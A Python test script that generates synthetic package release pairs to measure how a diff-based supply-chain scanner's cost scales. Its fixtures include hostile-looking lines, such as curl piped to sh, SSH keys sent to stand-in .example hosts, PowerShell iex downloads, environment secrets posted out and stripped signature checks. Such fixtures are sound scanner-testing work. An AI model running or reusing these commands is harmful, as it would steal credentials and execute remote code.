#!/usr/bin/env python3
"""Pairs of releases whose change is n, 2n and 4n: what a comparison costs grows with it.  pairs.py ASSAY [--times] [--size K] [WORD...]

What is asserted is what series.py asserts: steps and private memory may grow 2.6 times a doubling. Steps are counted where
foreign bytes are read. What the parent does with facts is no step: --times prints processor time, for people, and --size
makes every n so many times as large, so that a square is seen. Writes TAP.
"""

import io
import json
import os
import subprocess
import sys
import tarfile
import tempfile

sys.dont_write_bytecode = True
HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(os.path.dirname(HERE), "make"))

from footprint import Footprint                     # noqa: E402
from series import growth, wrong                    # noqa: E402
import hostile_zip as zips                          # noqa: E402

PATIENCE_SECONDS = 240
PAIRS = []


def release(files):
    """A package of {name: text or bytes}, as npm packs it."""
    files = {"package.json": '{"name": "sample", "version": "1.0.0", "main": "index.js"}\n', **files}
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name in files:
            data = files[name]
            data = data if isinstance(data, bytes) else data.encode()
            info = tarfile.TarInfo("package/" + name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


def pair(n, ending=".tar"):
    def add(make):
        PAIRS.append((make.__name__.replace("_", "-"), ending, n, make))
        return make
    return add


def single(name, n, file, old, new):
    """OLD and NEW of one file each."""
    def make(count):
        return release({file: old(count)}), release({file: new(count)})
    make.__name__ = name
    pair(n)(make)


def rows(form, head="", tail=""):
    """A text of n rows; %(i)d in them is the row's number."""
    return lambda n: head + "".join(form % {"i": i} for i in range(n)) + tail


# ---- one file of many changed units ----------------------------------------------------------------------------------------

def changed(name, n, file, form, head="", tail=""):
    """Every row of the file differs in one word: WORD becomes other."""
    single(name, n, file, rows(form.replace("WORD", "plain"), head, tail), rows(form.replace("WORD", "other"), head, tail))


def added(name, n, file, form, head="", tail=""):
    single(name, n, file, rows("", head, tail), rows(form, head, tail))


UNITS = [
    ("js", "a.js", "function f%(i)d(a) { return g%(i)d(a, 'WORD%(i)d'); }\n", ""),
    ("ts", "a.ts", "export function f%(i)d(a: string): string { return g%(i)d(a, 'WORD%(i)d'); }\n", ""),
    ("py", "a.py", "def f%(i)d(a):\n    return g%(i)d(a, 'WORD%(i)d')\n", ""),
    ("go", "a.go", "func f%(i)d(a string) string { return g%(i)d(a, \"WORD%(i)d\") }\n", "package a\n"),
    ("php", "a.php", "function f%(i)d($a) { return g%(i)d($a, 'WORD%(i)d'); }\n", "<?php\n"),
    ("rb", "a.rb", "def f%(i)d(a)\n  g%(i)d(a, 'WORD%(i)d')\nend\n", ""),
    ("sh", "a.sh", "f%(i)d() { g%(i)d \"$1\" 'WORD%(i)d'; }\n", "#!/bin/sh\n"),
    ("ps1", "a.ps1", "function F%(i)d($a) { G%(i)d $a 'WORD%(i)d' }\n", ""),
    ("c", "a.c", "int f%(i)d(char *a) { return g%(i)d(a, \"WORD%(i)d\"); }\n", ""),
    ("bat", "a.bat", "call :g%(i)d %%1 WORD%(i)d\r\n", "@echo off\r\n"),
    ("pl", "a.pl", "sub f%(i)d { return g%(i)d(shift, 'WORD%(i)d'); }\n", "#!/usr/bin/perl\n"),
    ("java", "A.java", "int f%(i)d(String a) { return g%(i)d(a, \"WORD%(i)d\"); }\n", "class A {\n"),
    ("make", "Makefile", "t%(i)d:\n\tg%(i)d WORD%(i)d\n", ""),
    ("yaml", "a.yaml", "k%(i)d: WORD%(i)d\n", ""),
    ("ini", "a.ini", "k%(i)d = WORD%(i)d\n", "[a]\n"),
    ("toml", "a.toml", "k%(i)d = \"WORD%(i)d\"\n", ""),
    ("json", "a.json", "\"k%(i)d\": \"WORD%(i)d\",\n", "{\n"),
    ("css", "a.css", ".k%(i)d { content: \"WORD%(i)d\" }\n", ""),
    ("html", "a.html", "<p onclick=\"f%(i)d('WORD%(i)d')\">x</p><script>f%(i)d('WORD%(i)d')</script>\n", ""),
    ("txt", "a.txt", "line %(i)d WORD\n", ""),
    ("xml", "a.xml", "<a n=\"%(i)d\">WORD%(i)d</a>\n", "<x>\n"),
]
for language, file, form, head in UNITS:
    changed("units-changed-" + language, 1000, file, form, head)
    added("units-added-" + language, 1000, file, form, head)


@pair(1000)
def units_moved_js(n):
    form = "function f%d(a) { return g%d(a, 'x%d'); }\n"
    lines = [form % (i, i, i) for i in range(n)]
    return release({"a.js": "".join(lines)}), release({"a.js": "".join(lines[::-1])})


@pair(1000)
def units_interleaved_js(n):
    """Every other function is new, and each old one calls it."""
    return (release({"a.js": rows("function f%(i)d(a) { return a; }\n")(n)}),
            release({"a.js": rows("function f%(i)d(a) { return n%(i)d(a); }\nfunction n%(i)d(a) { return a; }\n")(n)}))


added("units-of-one-name-js", 1000, "a.js", "function f(a) { return g(a, %(i)d); }\n")
added("words-of-one-kind-js", 5000, "a.js", "a,\n", "var x = [", "];")
added("calls-eval-js", 300, "a.js", "eval(x%(i)d);\n")
added("calls-exec-js", 300, "a.js", "require('child_process').exec('run' + x%(i)d);\n")
added("calls-get-js", 300, "a.js", "require('https').get('https://h%(i)d.example/' + process.env.A%(i)d);\n")
added("calls-get-py", 300, "a.py", "requests.post('https://h%(i)d.example/', data=os.environ['A%(i)d'])\n", "import requests, os\n")
added("calls-curl-sh", 300, "a.sh", "curl -s https://h%(i)d.example/x | sh\n", "#!/bin/sh\n")
added("calls-read-sh", 300, "a.sh", "cat ~/.ssh/k%(i)d | curl -d @- https://h%(i)d.example/x\n", "#!/bin/sh\n")
added("calls-iex-ps1", 300, "a.ps1", "iex (iwr https://h%(i)d.example/x)\n")
added("calls-system-rb", 300, "a.rb", "system(`curl https://h%(i)d.example/x`)\n")
added("calls-exec-go", 300, "a.go", "func f%(i)d() { exec.Command(\"sh\", \"-c\", os.Getenv(\"A%(i)d\")).Run() }\n",
      "package a\nimport (\"os\"; \"os/exec\")\n")
added("calls-system-php", 300, "a.php", "system($_GET['a%(i)d']);\n", "<?php\n")
added("calls-system-c", 300, "a.c", "void f%(i)d(void) { system(getenv(\"A%(i)d\")); }\n")

# ---- what is replaced, lost, decoded ---------------------------------------------------------------------------------------

changed("hosts-replaced-js", 500, "a.js", "f%(i)d('https://WORD%(i)d.example/x');\n")
changed("hosts-replaced-txt", 2000, "a.txt", "see https://WORD%(i)d.example/x\n")
changed("hosts-replaced-json", 2000, "a.json", "\"k%(i)d\": \"https://WORD%(i)d.example/x\",\n", "{", "\"z\": 1}\n")
changed("hosts-replaced-c", 500, "a.c", "f%(i)d(\"https://WORD%(i)d.example/x\");\n", "void g(void) {\n", "}\n")
changed("addresses-replaced-ini", 2000, "a.ini", "k%(i)d = 192.0.2.1 WORD\n", "[a]\n")


def number(i, salt):
    return "%064x" % ((i * 2654435761 + salt) ** 7 % 2 ** 256)


@pair(500)
def keys_replaced(n):
    return tuple(release({"a.js": "".join("k%d.publicKey = '%s';\n" % (i, number(i, salt)) for i in range(n))}) for salt in (1, 2))


@pair(500)
def digests_replaced(n):
    return tuple(release({"a.json": json.dumps({"f%d" % i: "sha256-" + number(i, salt) for i in range(n)}, indent=1)}) for salt in (1, 2))


CHECKS = [
    ("js", "a.js", "function f%(i)d(a) {\nif (!verifySignature(a%(i)d)) throw new Error('bad signature');\nrun(a%(i)d);\n}\n",
     "function f%(i)d(a) {\nrun(a%(i)d);\n}\n", ""),
    ("py", "a.py", "def f%(i)d(a):\n    if not verify_signature(a):\n        raise ValueError('bad signature')\n    run(a)\n",
     "def f%(i)d(a):\n    run(a)\n", ""),
    ("go", "a.go", "func f%(i)d(a []byte) error {\nif !verifySignature(a) {\nreturn errors.New(\"bad signature\")\n}\nreturn run(a)\n}\n",
     "func f%(i)d(a []byte) error {\nreturn run(a)\n}\n", "package a\n"),
    ("c", "a.c", "int f%(i)d(char *a) {\nif (!verify_signature(a))\nreturn -1;\nreturn run(a);\n}\n",
     "int f%(i)d(char *a) {\nreturn run(a);\n}\n", ""),
]
for language, file, old, new, head in CHECKS:
    single("checks-lost-" + language, 300, file, rows(old, head), rows(new, head))


def layered(n, layers):
    import base64
    out = []
    for i in range(n):
        text = b"console.log('%d')" % i
        for _ in range(layers):
            text = b"eval(Buffer.from('" + base64.b64encode(text) + b"', 'base64').toString())"
        out.append(text.decode() + ";\n")
    return "".join(out)


@pair(200)
def layers_many(n):
    return release({"a.js": "\n"}), release({"a.js": layered(n, 1)})


@pair(50)
def layers_in_layers(n):
    return release({"a.js": "\n"}), release({"a.js": layered(n, 3)})


@pair(2000)
def bundle_replaced(n):
    """One line, all of it other code: another minifier."""
    old = "".join("function %s(a){return b%d(a,'w%d')}" % ("f%d" % i, i, i) for i in range(n))
    new = "".join("var %s=c=>{d%d(c);return e('w%d',c)};" % ("q%d" % i, i, i) for i in range(n))
    return release({"a.min.js": old}), release({"a.min.js": new})


@pair(2000)
def bundle_renamed(n):
    """Another minifier's names over the same code."""
    form = "function %s%d(a){return %s%d(a,'w%d')}"
    return tuple(release({"a.min.js": "".join(form % (w, i, w, i + 1, i) for i in range(n))}) for w in "fq")


# ---- many members ------------------------------------------------------------------------------------------------------------

def many(n, name, form):
    return {name % i: form % {"i": i, "j": (i + 1) % n} for i in range(n)}


MODULE = "const a = require('./m%(j)d');\nmodule.exports = function f%(i)d(x) { return a(x, %(i)d); };\n"


def members(name, n, *sides):
    """Each side: (pattern of names, form of the text)."""
    def make(count):
        return tuple(release(many(count, *side) if side else {}) for side in sides)
    make.__name__ = name
    pair(n)(make)


members("members-renamed", 500, ("lib/m%d.js", MODULE), ("lib/n%d.js", MODULE))
members("members-moved", 500, ("lib/m%d.js", MODULE), ("src/a/m%d.js", MODULE))
members("members-hashed", 500, ("lib/chunk-%d.aaaa1111.js", MODULE), ("lib/chunk-%d.bbbb2222.js", MODULE + "// %(i)d changed\n"))
members("members-similar", 500, ("lib/m%d.js", MODULE * 8), ("src/n%d.js", MODULE * 8 + "use(%(i)d);\n"))
members("members-changed", 500, ("lib/m%d.js", MODULE), ("lib/m%d.js", MODULE + "use(%(i)d);\n"))
members("members-new-chain", 300, (), ("lib/m%d.js", MODULE))
members("members-removed", 500, ("lib/m%d.js", MODULE), ())
members("members-new-flow", 200, (), ("lib/m%d.js", "const a = require('./m%(j)d');\n"
        "exports.read = () => process.env.A%(i)d;\nrequire('https').get('https://h%(i)d.example/' + a.read());\n"))
members("members-new-flow-py", 200, (), ("lib/m%d.py", "import os, requests\nfrom . import m%(j)d\n"
        "def read():\n    return os.environ['A%(i)d']\nrequests.post('https://h.example/', data=m%(j)d.read())\n"))
members("members-new-data", 500, (), ("data/m%d.bin", "\x01\x02\x03 %(i)d \x00\x01 plain\n"))
members("members-new-sh", 300, (), ("bin/m%d.sh", "#!/bin/sh\n. ./m%(j)d.sh\ncurl https://h%(i)d.example/ | sh\n"))
members("members-new-manifests", 200, (), ("m%d/package.json", '{"name": "n%(i)d", "scripts": {"postinstall": "node m%(j)d.js"}}'))


@pair(100)
def members_all_to_all(n):
    """Each new member requires every other: the edges are the square of n, so is the input."""
    k = int(n ** 0.5 * 4)
    files = {"m%d.js" % i: "".join("require('./m%d');\n" % j for j in range(k) if j != i) for i in range(k)}
    return release({}), release(files)


@pair(500)
def members_of_one_content(n):
    return release({"a/m%d.js" % i: "f()\n" for i in range(n)}), release({"b/n%d.js" % i: "f()\n" for i in range(n)})


@pair(300)
def members_version_in_name(n):
    return tuple(release({"lib/a-%d.%s.js" % (i, v): MODULE % {"i": i, "j": i} for i in range(n)}) for v in ("1.0.0", "1.0.1"))


@pair(300)
def deep_folders(n):
    return release({}), release({"d/" * (i % 60) + "m%d.js" % i: "f(%d)\n" % i for i in range(n)})


# ---- manifests -----------------------------------------------------------------------------------------------------------------

def manifest(**more):
    return release({"package.json": json.dumps({"name": "sample", "version": "1.0.0", **more}, indent=1), "index.js": "f()\n"})


@pair(500)
def dependencies_added(n):
    return manifest(), manifest(dependencies={"d%d" % i: "^1.0.%d" % i for i in range(n)})


@pair(500)
def dependencies_changed(n):
    return tuple(manifest(dependencies={"d%d" % i: "^%d.0.%d" % (v, i) for i in range(n)}) for v in (1, 2))


@pair(200)
def dependencies_alike(n):
    """New names that resemble those that stand."""
    old = {"package%dname" % i: "1.0.0" for i in range(n)}
    return manifest(dependencies=old), manifest(dependencies={**old, **{"packag%dname" % i: "1.0.0" for i in range(n)}})


@pair(300)
def scripts_added(n):
    return manifest(), manifest(scripts={"s%d" % i: "node s%d.js && npm run s%d" % (i, i + 1) for i in range(n)})


@pair(300)
def scripts_of_a_hook(n):
    scripts = {"s%d" % i: "npm run s%d" % (i + 1) for i in range(n)}
    return manifest(), manifest(scripts={"postinstall": "npm run s0", **scripts})


@pair(300)
def hook_of_many_files(n):
    files = {"h%d.js" % i: "require('./h%d');\n" % (i + 1) for i in range(n)}
    return manifest(), release({"package.json": json.dumps({"name": "sample", "version": "1.0.0", "scripts": {
        "postinstall": " && ".join("node h%d.js" % i for i in range(n))}}), **files})


@pair(500)
def lock_rows(n):
    def lock(v):
        return json.dumps({"name": "a", "lockfileVersion": 3, "packages": {"node_modules/d%d" % i: {
            "version": "%d.0.0" % v, "resolved": "https://r.example/d%d-%d.tgz" % (i, v), "integrity": "sha512-" + number(i, v)}
            for i in range(n)}})
    return tuple(release({"package-lock.json": lock(v)}) for v in (1, 2))


@pair(300)
def requirements(n):
    return tuple(release({"requirements.txt": "".join("d%d==%d.0\n" % (i, v) for i in range(n))}) for v in (1, 2))


@pair(300)
def gyp_rows(n):
    return release({}), release({"binding.gyp": "{'targets': [%s]}" % ",".join(
        "{'target_name': 't%d', 'sources': ['<!(node s%d.js)']}" % (i, i) for i in range(n))})


@pair(300)
def workflow_steps(n):
    form = "      - run: ./s%d.sh --of %s\n"
    return tuple(release({".github/workflows/a.yml": "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n" + "".join(
        form % (i, w) for i in range(n))}) for w in ("one", "two"))


@pair(300)
def setup_py(n):
    return tuple(release({"setup.py": "from setuptools import setup\n" + "".join("f%d('%s')\n" % (i, w) for i in range(n)) +
                          "setup(name='a')\n"}) for w in ("one", "two"))


# ---- programs ------------------------------------------------------------------------------------------------------------------

def compiled(n, word):
    """A library of n functions that each call and name something."""
    text = "int puts(const char *); int outer(int);\n" + "".join(
        "int f%d(int a) { puts(\"%s%d\"); if (a > %d) return outer(a * %d) + %d; return a; }\n" % (i, word, i, i, i + 3, i * 7)
        for i in range(n))
    with tempfile.TemporaryDirectory() as work:
        source, target = os.path.join(work, "a.c"), os.path.join(work, "a.so")
        with open(source, "w") as f:
            f.write(text)
        subprocess.run(["cc", "-O1", "-shared", "-fPIC", "-nostdlib", "-o", target, source], check=True)
        with open(target, "rb") as f:
            return f.read()


@pair(300)
def functions_changed_elf(n):
    return release({"a.so": compiled(n, "plain")}), release({"a.so": compiled(n, "other")})


@pair(300)
def functions_added_elf(n):
    return release({"a.so": compiled(10, "plain")}), release({"a.so": compiled(n, "plain")})


@pair(2000, ".zip")
def zip_members_replaced(n):
    return tuple(zips.zip_of([zips.Entry(b"f%d.txt" % i, b"%d %d" % (i, v)) for i in range(n)]) for v in (1, 2))


# ---- measuring -------------------------------------------------------------------------------------------------------------------

def measure(assay, name, ending, sides, folder):
    """As series.measure(), of a comparison."""
    paths = [name + "-1.0.%d%s" % (v, ending) for v in (0, 1)]
    for path, data in zip(paths, sides):
        with open(os.path.join(folder, path), "wb") as f:
            f.write(data)
    footprint = Footprint()
    done = footprint.run([assay, "diff", "--format", "json", "--no-progress", "--now", "2025-07-01", *paths], folder,
                         dict(os.environ, ASSAY_CONFIG=os.devnull), PATIENCE_SECONDS)
    assert done.returncode in (0, 1), "exit status %d: %s" % (done.returncode, done.stderr[:200])
    document = json.loads(done.stdout)
    cut = any("over budget" in b["reason"] for b in document["coverage"]["blind"])
    return document["cost"]["steps"], footprint.peak_bytes, footprint.seconds, cut


def main(argv):
    assay = os.path.abspath(argv[1])
    times = "--times" in argv
    size = 1
    if "--size" in argv:
        size = int(argv.pop(argv.index("--size") + 1))
    words = [a for a in argv[2:] if not a.startswith("--")]
    chosen = [p for p in PAIRS if not words or any(w in p[0] for w in words)]
    failed = 0
    print("1..%d" % len(chosen))
    with tempfile.TemporaryDirectory() as folder:
        for at, (name, ending, n, make) in enumerate(chosen, 1):
            measured = [measure(assay, name, ending, make(n * k * size), folder) for k in (1, 2, 4)]
            bad = wrong(measured)
            failed += bool(bad)
            print("%s %d - %s" % ("not ok" if bad else "ok", at, name))
            for line in bad:
                print("# " + line)
            if times:
                print("# steps %s, MiB %s, seconds %s: x %.1f a doubling%s" % (
                    [r[0] for r in measured], [r[1] >> 20 for r in measured], ["%.2f" % r[2] for r in measured],
                    growth([r[2] for r in measured], 0.05), ", over budget" if any(r[3] for r in measured) else ""))
            sys.stdout.flush()
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
